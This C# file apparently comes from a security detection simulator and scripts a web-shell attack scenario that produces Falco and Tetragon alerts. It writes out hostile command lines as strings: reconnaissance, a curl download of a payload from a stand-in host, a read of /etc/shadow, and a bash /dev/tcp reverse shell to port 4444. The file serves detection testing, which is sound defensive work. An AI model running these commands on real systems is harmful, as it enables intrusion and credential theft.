using Eyrie.Simulation.Falco;
using Eyrie.Simulation.Hosts;
using Eyrie.Simulation.Tetragon;

namespace Eyrie.Simulation.Scenarios;

/// <summary>
/// A web shell in a PHP application: looks around, fetches a program, runs it and becomes root, reads the password
/// hashes, and calls home on a strange port, for which Tetragon kills it.
/// </summary>
internal static class WebShellAttack
{
    private const string Payload = "/tmp/.cache-x";
    private const string Shadow = "/etc/shadow";
    private const string Home = "198.51.100.23";
    private const int HomePort = 4444;
    private static readonly Command Sh = new Command("/bin/sh") { Mapped = "/usr/bin/dash" };

    public static IEnumerable<TimedMessage> Play(Stage stage)
    {
        stage.Pause(700);
        var worker = stage.Fork(stage.Node[Pods.Gallery]); // php-fpm forks its workers and never executes in them
        Request(stage, worker, "id; uname -a", new("/usr/bin/id"), new("/bin/uname", "-a"));
        Download(stage, worker);
        Request(stage, worker, $"chmod +x {Payload}", new Command("/bin/chmod", "+x", Payload));
        var payload = RunPayload(stage, worker);
        ReadHashes(stage, payload);
        CallHome(stage, payload);
        stage.Pause(600);
        stage.Exit(payload);
        stage.Pause(200);
        stage.Exit(worker);
        return stage.TakeSeen();
    }

    private static void Request(Stage stage, SimulatedProcess worker, string line, params Command[] tools)
    {
        var shell = Shell(stage, worker, line);
        foreach (var tool in tools)
        {
            var process = stage.Run(shell, tool);
            stage.Pause(4);
            stage.Exit(process);
        }

        stage.Exit(shell);
        stage.Pause(900);
    }

    private static SimulatedProcess Shell(Stage stage, SimulatedProcess worker, string line)
    {
        var shell = stage.Run(worker, Sh with { Args = ["-c", line] });
        stage.Alert(shell, FalcoRules.UntrustedShell, "execve", ("evt.arg.filename", "/bin/sh"));
        stage.Pause(2);
        return shell;
    }

    private static void Download(Stage stage, SimulatedProcess worker)
    {
        var url = $"http://{Home}/x";
        var from = worker.Container!.Plan.Address;
        var shell = Shell(stage, worker, $"curl -fsS -o {Payload} {url}");

        // the shell's last command runs in the shell's own pid
        stage.Replace(shell, new("/usr/bin/curl", "-fsS", "-o", Payload, url));
        stage.Alert(shell, FalcoRules.IngressCopy, "execve", ("evt.arg.filename", "/usr/bin/curl"));
        stage.Pause(9);
        stage.Hit(shell, Policies.TcpConnect, Policies.Socket(from, 40122, Home, 80));
        stage.Pause(140);
        stage.Hit(shell, Policies.FileAccess, Policies.File(Payload, "-rw-r--r--"), Policies.Number(2));
        stage.Pause(3);
        stage.Exit(shell);
        stage.Pause(900);
    }

    private static SimulatedProcess RunPayload(Stage stage, SimulatedProcess worker)
    {
        var shell = Shell(stage, worker, $"{Payload} &");
        stage.Hit(shell, Policies.UntrustedExec, Policies.Binary(Payload));
        var payload = stage.Run(shell, new(Payload) { Dropped = true });
        stage.Alert(
            payload, FalcoRules.DroppedBinary, "execve",
            ("evt.arg.filename", Payload), ("evt.arg.flags", "EXE_WRITABLE|EXE_UPPER_LAYER"));
        stage.Pause(3);
        stage.Exit(shell);
        stage.Pause(1500);
        stage.Hit(payload, Policies.SuddenRoot, Policies.Credentials(0));
        stage.Pause(400);
        return payload;
    }

    private static void ReadHashes(Stage stage, SimulatedProcess payload)
    {
        var shell = stage.Run(payload, Sh with { Args = ["-c", $"cat {Shadow}"], Uid = 0 });
        stage.Pause(1);
        stage.Replace(shell, new("/bin/cat", Shadow) { Mapped = "/usr/bin/cat" });
        stage.Pause(1);
        stage.Hit(shell, Policies.CredentialRead, Policies.Text(Shadow, "filename"));
        stage.Alert(
            shell, FalcoRules.SensitiveRead, "openat",
            ("fd.name", Shadow), ("fd.num", 3), ("fd.type", "file"), ("evt.arg.flags", "O_RDONLY"));
        stage.Pause(2);
        stage.Exit(shell);
        stage.Pause(1200);
    }

    private static void CallHome(Stage stage, SimulatedProcess payload)
    {
        var from = payload.Container!.Plan.Address;
        var shell = stage.Run(payload, Sh with
        {
            Binary = "/bin/bash",
            Mapped = "/usr/bin/bash",
            Args = ["-c", $"bash -i >& /dev/tcp/{Home}/{HomePort} 0>&1"],
            Uid = 0,
        });
        stage.Pause(6);
        stage.Hit(shell, Policies.StrangePort, Policies.Socket(from, 51874, Home, HomePort));
        stage.Alert(
            shell, FalcoRules.StrangeConnection, "connect", GuideAttack.Connection(from, 51874, Home, HomePort));
        stage.Pause(0.2);
        stage.Exit(shell, signal: "SIGKILL");
    }
}
